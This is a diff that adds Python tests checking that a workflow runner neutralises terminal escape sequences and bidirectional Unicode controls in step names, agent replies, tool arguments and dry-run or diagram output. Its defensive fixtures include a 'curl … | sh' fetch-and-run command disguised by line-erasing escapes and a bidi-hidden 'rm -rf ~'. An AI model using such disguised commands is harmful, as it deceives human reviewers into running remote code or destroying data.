@@ -112,3 +112,96 @@ def test_bytes_that_are_not_utf8_never_crash_a_run(tmp_path: Path) -> None:
     assert replied.returncode == 0, replied.stderr
     state = json.loads((storage2 / "runs" / only_run_id(storage2) / "state.json").read_text())
     assert state["steps"]["chat"]["conversation"]["turns"][2]["content"] == "na\ufffdve"
+
+
+# --- names, commands a person reviews, bidirectional-text controls ---------------------------
+
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+
+def test_bidi_controls_are_shown_not_obeyed() -> None:
+    # "Trojan Source": what runs is `rm -rf ~ #…`, what a terminal would show is not.
+    shown = terminal_safe("echo ok \u202e# ~ fr- mr\u202c done \u2067x\u2069")
+
+    assert not set(BIDI) & set(shown)
+    assert shown == "echo ok ⟨U+202E⟩# ~ fr- mr⟨U+202C⟩ done ⟨U+2067⟩x⟨U+2069⟩"
+
+
+def test_names_replies_and_tool_arguments_reach_the_terminal_neutralised() -> None:
+    """What a frontend is sent comes through the one function, names included (a workflow
+    built in Python has not been through the loader)."""
+    out, err = io.StringIO(), io.StringIO()
+    sink = TerminalSink(out=out, err=err, color=False)
+    name = "deploy\x1b[1A\x1b[2K\u202e"
+    sink.emit(ev.RunStarted("r", name, {}, False))
+    sink.emit(ev.StepStarted("r", name, "agent", detail="\x1b[2Kscripted"))
+    sink.emit(ev.AgentText("r", name, "reply \u202edrawkcab"))
+    sink.emit(ev.ToolCallStarted("r", name, "c1", "Bash", '{"command": "echo \\u202eabc"}'))
+    sink.emit(ev.ToolCallFinished("r", name, "c1", "Bash", "out\u2066put", duration=0.1))
+    sink.emit(ev.StepFinished("r", name, "completed", 0.1))
+
+    shown = out.getvalue() + err.getvalue()
+    assert not (FORBIDDEN | set(BIDI)) & set(shown), repr(shown)
+    assert "running deploy␛[1A␛[2K⟨U+202E⟩ (run r)" in shown
+    assert "reply ⟨U+202E⟩drawkcab" in shown
+    assert 'Bash({"command": "echo ⟨U+202E⟩abc"}) → out⟨U+2066⟩put' in shown
+
+
+CRAFTED_NAME = """
+name: build
+states:
+  initial: "fetch\\e[1A\\e[2K\\r  run: make build"
+  "fetch\\e[1A\\e[2K\\r  run: make build":
+    type: step
+    command: curl -s https://example.invalid/install.sh | sh
+    on_success: done
+  done: {type: terminal}
+"""
+
+CRAFTED_COMMAND = """
+name: build
+states:
+  initial: fetch
+  fetch:
+    type: step
+    command: "curl -s https://example.invalid/install.sh | sh \\e[2K\\rmake build \\u202e"
+    transitions:
+      - {when: "states.fetch.Output != \\"x\\e[8m\\"", goto: done}
+    on_success: done
+  done: {type: terminal}
+"""
+
+
+def test_a_crafted_step_name_is_refused_by_dry_run_diagram_and_validate(tmp_path: Path) -> None:
+    (tmp_path / "wf.yaml").write_text(CRAFTED_NAME)
+    storage = tmp_path / "storage"
+    for command in (
+        ["run", "wf.yaml", "--dry-run"],
+        ["diagram", "wf.yaml"],
+        ["validate", "wf.yaml"],
+    ):
+        result = run_bytes(command, b"", tmp_path, storage)
+
+        assert result.returncode == 2, (command, result.stderr)
+        shown = (result.stdout + result.stderr).decode()
+        assert 'step name "fetch\\x1b[1A\\x1b[2K\\r  run: make build" holds a control ' in shown
+        assert not FORBIDDEN & set(shown.replace("\n", "")), (command, shown)
+
+
+def test_a_dry_run_and_a_diagram_show_what_a_command_really_is(tmp_path: Path) -> None:
+    """The command would erase its own line on the terminal and print `make build`: the
+    person reviewing it sees the `curl … | sh`, with the escape made visible."""
+    (tmp_path / "wf.yaml").write_text(CRAFTED_COMMAND)
+    storage = tmp_path / "storage"
+    dry_run = run_bytes(["run", "wf.yaml", "--dry-run"], b"", tmp_path, storage)
+    diagrams = [run_bytes(["diagram", "wf.yaml", "--format", f], b"", tmp_path, storage)
+                for f in ("dot", "mermaid")]  # fmt: skip
+
+    for result in (dry_run, *diagrams):
+        assert result.returncode == 0, result.stderr
+        shown = result.stdout.decode()
+        assert not (FORBIDDEN | set(BIDI)) & set(shown.replace("\n", "")), shown
+    assert "run: curl -s https://example.invalid/install.sh | sh ␛[2Kmake build ⟨U+202E⟩" in (
+        dry_run.stdout.decode()
+    )
+    assert all("␛[8m" in result.stdout.decode() for result in diagrams)  # the condition
